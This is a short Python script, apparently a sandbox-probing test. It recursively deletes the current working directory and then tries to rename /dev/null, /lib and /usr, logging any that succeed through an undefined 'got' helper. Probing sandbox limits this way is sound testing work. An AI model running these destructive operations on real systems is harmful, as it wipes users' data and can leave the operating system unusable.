import os
import shutil

folder = os.getcwd()
os.mkdir("deep")
os.chdir("deep")
os.rmdir("../deep")
shutil.rmtree(folder, ignore_errors=True)
for name in (folder, "/dev/null", "/lib", "/usr"):
    try:
        os.rename(name, folder + "-moved")
        got(f"moved {name}")
    except OSError:
        pass
